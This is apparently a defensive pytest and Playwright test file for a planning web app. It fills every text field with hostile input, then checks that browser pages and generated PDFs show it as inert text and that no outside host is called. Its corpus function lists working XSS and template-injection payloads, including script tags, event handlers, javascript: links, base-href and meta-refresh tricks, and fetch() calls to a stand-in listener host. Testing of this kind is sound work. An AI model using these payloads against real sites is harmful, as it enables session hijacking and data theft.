"""Markup and scripts in every text that anybody can type, shown in Chromium on every kind of page, and on paper.

No dialog opens, no script runs, nothing is asked of another host, and nothing has to be stopped by the policy: what was
typed is shown as it was typed. A server on this machine plays the foreign host; nobody may ever call there.
"""

from __future__ import annotations

import io
import itertools
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pikepdf
import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, expect

from app.domain import commands as do
from app.domain.checker import Report
from app.domain.decide import signing
from app.domain.fields import Text
from app.domain.kinds import KINDS, Kind
from app.domain.people import Actor, Person, Role, Side
from app.session.live_plan import Done
from app.store import grants, people, users
from app.web.identity import accounts, invitations
from app.web.identity.devices import Start, now_ms
from tests.serving import Served, serving
from tests.worked import worked_account

PEOPLE = {
    "facilitator": "Anouk Terpstra",
    "member": "Bram Visser",
    "signer": "Sofie Maes",
    "customer": "Marijke van den Berg",
}
LOGIN, PASSWORD = "eva@meridian.test", "a password of some length"


@dataclass
class Elsewhere:
    """A host that nobody has any business with; it hears whoever calls."""

    listening: socket.socket
    heard: list[bytes] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.listening.getsockname()[1]}"

    def listens(self) -> None:
        while True:
            try:
                line, _ = self.listening.accept()
            except OSError:
                return
            with line:
                line.settimeout(1)
                self.heard.append(line.recv(2_000))


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    with socket.create_server(("127.0.0.1", 0)) as listening:
        found = Elsewhere(listening)
        threading.Thread(target=found.listens, daemon=True).start()
        yield found
        listening.shutdown(socket.SHUT_RDWR)


def corpus(there: str) -> list[str]:
    """Each would call `there`, open a dialog or leave a mark on the window, wherever it was taken for more than words."""
    pwn = f"alert(1);pwned=1;fetch('{there}/f')"
    return [
        f"<script>{pwn}</script>",
        f"<img src={there}/i onerror=\"{pwn}\">",
        f"\"><svg onload=\"{pwn}\">",
        f"'><iframe src={there}/if></iframe>",
        f"</textarea></title></style></script><script>{pwn}</script>",
        f"\" autofocus onfocus=\"{pwn}\" x=\"",
        f"' onmouseover='{pwn}' style='background:url({there}/c)",
        f"<a href=\"javascript:{pwn}\">x</a>",
        f"<link rel=stylesheet href={there}/l><base href={there}/>",
        f"<meta http-equiv=refresh content=\"0;url={there}/m\">",
        f"<form action={there}/fo><button autofocus>x</button></form>",
        f"<math><mtext></form><form><mglyph><style></math><img src={there}/q onerror={pwn}>",
        f"[x]({there}/md) ![x]({there}/mi) <{there}/auto>",
        "{{7*7}} {% raw %} ${7*7} <%= 7*7 %>",
        f"--><img src={there}/co><!--",
        f"]]><script>{pwn}</script>",
        f"<div hx-get=\"{there}/hx\" hx-trigger=\"load\" data-hx-on:load=\"{pwn}\">x</div>",
        "<x id=\"csf\" name=\"body\" data-testid=\"y\" data-sync=\"saved\">",
        f"@import url({there}/css); expression({pwn})",
        f"&lt;img src={there}/e onerror={pwn}&gt;&#60;script&#62;",
        "\u202e<b>\u2066tfel</b>",
        f"file:///etc/passwd <embed src={there}/em> <object data={there}/o>",
    ]  # fmt: skip


SHORT = ("<b>x</b>", "<i>", "\"'<>&", "</p>", "{{7}}")
"""For fields of a few characters."""


@dataclass
class House:
    served: Served
    plan: str
    there: Elsewhere
    tokens: dict[str, str] = field(default_factory=dict)
    typed: list[str] = field(default_factory=list)

    def does(self, command: do.Command) -> None:
        live = self.served.do(self.served.site.rooms.get(self.plan)).live
        actor = Actor(None, Side.OURS, Role.SYSTEM, live.now())
        assert isinstance(self.served.do(live.submit(actor, None, command)), Done), command

    def paths(self, who: str) -> list[str]:
        """What somebody looks at."""
        plan, state = f"/p/{self.plan}", self.served.do(self.served.site.rooms.get(self.plan)).live.state
        signs = [f"{plan}/{each}" for each in ("sign", "sign/page", "sign/all", "sign/changes")]
        match who:
            case "facilitator":
                office = (
                    "console", "board", "you", "roster", "roster/guest-00002", "settings", "door", "boards", "check",
                    "bin", "history", f"history/{state.seq - 9}",
                )  # fmt: skip
                return [plan, *(f"{plan}/{each}" for each in office)]
            case "signer":
                return [plan, *signs]
            case "customer":
                return [plan, f"{plan}/you", *signs]
            case "account":
                return ["/", "/account", "/new"]
            case "nobody":
                ours, theirs = (
                    self.served.do(invitations.way_in(self.served.identity, self.plan, kind)).path
                    for kind in (invitations.JOIN, invitations.CUSTOMER)
                )
                asked = [
                    "/join?code=%3Cb%3E",
                    "/login?next=%22%3E%3Cscript%3E",
                    "/verify",
                    "/nothing/<b>",
                    "//<b>/x",
                ]
                return [*asked, ours, f"{ours}/add", theirs]
            case _:
                return [plan, f"{plan}/you"]


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory, elsewhere: Elsewhere) -> Iterator[House]:
    with _house(tmp_path_factory.mktemp("markup") / "data", elsewhere, "strat-for-nat") as found:
        _is_signed(found)
        yield found


@pytest.fixture
def day(tmp_path: Path, elsewhere: Elsewhere) -> Iterator[House]:
    """A day in which nearly every activity has a step."""
    with _house(tmp_path / "data", elsewhere, "cross-functional-planning") as found:
        yield found


@contextmanager
def _house(data: Path, elsewhere: Elsewhere, format_: str) -> Iterator[House]:
    demo = worked_account(data, format_=format_)
    with serving(data) as served:
        found = House(served, demo.plan, elsewhere)
        for who, name in PEOPLE.items():
            found.tokens[who] = next(g.token for g in demo.guests if g.seat.name == name)
        _types_everywhere(found)
        yield found


def _types_everywhere(house: House) -> None:
    """Every text field of every kind, names and functions, logins, labels and what a browser calls itself."""
    served, plan = house.served, house.plan
    room = served.do(served.site.rooms.get(plan))
    words = itertools.cycle(corpus(house.there.url))
    short = itertools.cycle(SHORT)

    def word(longest: int) -> str:
        found = next((w for w in itertools.islice(words, 22) if len(w) <= longest), None)
        house.typed.append(found or next(short)[:longest])
        return house.typed[-1]

    def texts(kind: Kind, turn: int) -> dict[str, object]:
        left_alone = ("currency", "time_zone", "step")
        return {
            f.name: word(f.type.longest)
            for f in kind.fields
            if isinstance(f.type, Text)
            and f.name not in left_alone
            and not (f.name == "wording" and turn % 2)
        }

    account = room.live.state.account
    assert account is not None
    for name, value in texts(KINDS["account"], 0).items():
        house.does(do.Set(account.id, name, value))
    for turn in range(4):
        above: dict[str, str] = {}
        for kind in _from_the_top():
            name = kind.name
            parent = kind.parents[0] and above[kind.parents[0]]
            above[name] = f"markup-{name}-{turn}"
            said = {"value": "declined"} if name == "acceptance" else {}
            house.does(do.Add(above[name], name, parent, None, True, {**texts(kind, turn), **said}))
            if turn < 3:
                house.does(do.Share(above[name]))
    house.does(do.Remove("markup-nc-3"))
    guests = []
    for turn in range(6):
        id_, side = f"guest-{turn:05}", (Side.OURS, Side.THEIRS)[turn % 2]
        guests.append(id_)
        served.do(
            served.site.store.write(
                lambda rows, i=id_: people.add(rows, i, plan=plan, name=word(120), at=now_ms()).id
            )
        )
        role = Role.MEMBER if side is Side.OURS else Role.CUSTOMER
        house.does(do.SetPerson(Person(id_, side, role, word(80), word(80), joined=turn > 1)))
        start = Start("person", plan, id_, agent=word(300), label=word(80))
        served.do(served.identity.devices.start(start))
    room.names = {**room.names, **{g: word(120) for g in guests}}
    served.do(served.identity.devices.start(Start("board", plan, label=word(80), agent=word(300))))

    def office(rows: object) -> str:
        accounts.add(rows, login=LOGIN, name=word(120), password=PASSWORD)  # type: ignore[arg-type]
        user = users.by_login(rows, LOGIN)  # type: ignore[arg-type]
        assert user is not None
        grants.give(rows, user=user.id, plan=plan, level="owner", at=now_ms())  # type: ignore[arg-type]
        return user.id

    user = served.do(served.site.store.write(office))
    house.tokens["account"], _ = served.do(
        served.identity.devices.start(Start("account", user=user, agent=word(300)))
    )
    with httpx.Client(
        base_url=served.url, headers={"authorization": f"Bearer {house.tokens['facilitator']}"}
    ) as client:
        form = {"wifi": "<b>\"';x", "password": "<i>\"'&pass", "security": "WPA", "address": ""}
        assert client.post(f"/p/{plan}/check", data=form).status_code < 400


def _is_signed(house: House) -> None:
    house.does(do.SetRoom("board", "shared"))
    house.does(do.SetRoom("admitted", True))
    house.does(do.SetRoom("spotlight", "markup-csf-0"))
    with pytest.MonkeyPatch.context() as lenient:  # markup is no plan that can be signed
        lenient.setattr(signing, "check", lambda state, day: Report(()))
        house.does(do.Freeze())


def _from_the_top() -> list[Kind]:
    """Every kind but those that stand alone, in a step or without words, behind those under which it hangs."""
    left = [kind for kind in KINDS.values() if kind.name not in ("account", "readiness", "ballot", "mark")]
    found: list[Kind] = []
    while left:
        hung = {None, *(kind.name for kind in found)}
        found += [kind for kind in left if kind.parents[0] in hung]
        left = [kind for kind in left if kind not in found]
    return found


@contextmanager
def watched(browser: Browser, house: House, who: str) -> Iterator[tuple[Page, list[str]]]:
    """A page on which everything that must not happen is written down."""
    found: list[str] = []
    at = house.served.url.replace("127.0.0.1", "room.test")
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    if token := house.tokens.get(who):
        name = "account" if who == "account" else f"seat_{house.plan}"
        context.add_cookies([{"name": name, "value": token, "url": at}])
    page = context.new_page()

    def said(message: ConsoleMessage) -> None:
        if message.type == "error" and "status of 4" not in message.text:
            found.append(f"{page.url} says {message.text}")

    page.on("dialog", lambda dialog: (found.append(f"{page.url} opens a dialog"), dialog.dismiss()))
    page.on("console", said)
    page.on("pageerror", lambda error: found.append(f"{page.url} fails: {error}"))
    page.on(
        "request", lambda request: _own(request.url, at) or found.append(f"{page.url} asks {request.url}")
    )
    page.add_init_script(
        "addEventListener('securitypolicyviolation', e => console.error('stopped', e.violatedDirective, e.blockedURI))"
    )
    try:
        yield page, found
    finally:
        context.close()


def _own(url: str, at: str) -> bool:
    return urlsplit(url).netloc == urlsplit(at).netloc or url.startswith(("data:", "blob:", "about:"))


def harmless(page: Page, path: str) -> str:
    """Everything that a page says, when nothing of it does anything."""
    page.goto(path, wait_until="load")
    if page.locator("[data-sync-of=page]").count():
        expect(page.locator("[data-sync-of=page]").first).to_have_attribute("data-sync", "saved")
    assert page.evaluate("typeof pwned") == "undefined", path
    handlers = "document.querySelectorAll('[onerror],[onload],[onfocus],[onmouseover],base').length"
    assert page.evaluate(handlers) == 0, path
    assert page.evaluate("[...document.scripts].every(s => s.nonce || s.type.includes('json') || s.src)"), (
        path
    )
    return page.locator("body").inner_text()


@pytest.mark.parametrize("who", ["facilitator", "member", "signer", "customer", "account", "nobody"])
def test_what_was_typed_is_shown_as_it_was_typed_and_does_nothing(
    browser: Browser, house: House, who: str
) -> None:
    at, shown = house.served.url.replace("127.0.0.1", "room.test"), ""
    with watched(browser, house, who) as (page, found):
        for path in house.paths(who):
            shown += harmless(page, f"{at}{path}")
        assert not found, "\n".join(found[:20])
    assert house.there.heard == []
    if who != "nobody":
        assert "<script>alert(1)" in shown or "onerror=" in shown, "nothing of it was shown at all"


def test_no_activity_takes_what_was_typed_for_more_than_words(browser: Browser, day: House) -> None:
    at = f"{day.served.url.replace('127.0.0.1', 'room.test')}/p/{day.plan}"
    state = day.served.do(day.served.site.rooms.get(day.plan)).live.state
    assert state.run.format is not None
    steps = {step.activity: step.key for step in state.run.format.steps}
    shown = ""
    with watched(browser, day, "facilitator") as (page, found):
        for activity, step in steps.items():
            day.does(do.GoToStep(step))
            for screen in ("", "/board", "/console"):
                shown += harmless(page, f"{at}{screen}")
            assert not found, f"{activity}: " + "\n".join(found[:20])
    assert day.there.heard == []
    for kind in ("promise", "claim", "question", "conflict", "aim", "constraint"):
        typed = [state.records[f"markup-{kind}-{turn}"].text("statement") for turn in range(3)]
        assert any(words and words in shown for words in typed), f"no {kind} was shown at all"


def test_paper_asks_nobody_and_shows_it_as_words(house: House) -> None:
    """The press is a process of its own; what it prints is made of the same words."""
    bearer = {"authorization": f"Bearer {house.tokens['facilitator']}"}
    with httpx.Client(base_url=house.served.url, headers=bearer, timeout=120) as client:
        answer = client.get(f"/p/{house.plan}/document/internal.pdf?draft")
    assert answer.status_code == 200
    with pikepdf.open(io.BytesIO(answer.content)) as pdf:
        links = [str(note.A.URI) for sheet in pdf.pages for note in sheet.get("/Annots", []) if "/A" in note]
        scripts = [key for key in ("/OpenAction", "/AA", "/AcroForm") if key in pdf.Root]
        assert "/JavaScript" not in pdf.Root.get("/Names", {})
    assert [link for link in links if house.there.url in link or "javascript" in link] == []
    assert scripts == []
    assert len(answer.content) > 20_000
    assert house.there.heard == []


def test_the_watch_would_notice(browser: Browser, house: House) -> None:
    """A page that does what the corpus asks for is told by every one of the signs."""
    with watched(browser, house, "nobody") as (page, found):
        page.goto(f"{house.served.url.replace('127.0.0.1', 'room.test')}/join")
        bad = f"<img src='{house.there.url}/i' onerror='alert(1)'>"
        page.evaluate("bad => document.body.insertAdjacentHTML('beforeend', bad)", bad)
        page.wait_for_function("document.images[document.images.length - 1].complete")
        expect(page.locator("body")).to_be_visible()
        assert any("stopped" in line for line in found), "the policy stops it, and that is told"
    assert house.there.heard == [], "and nobody was called"
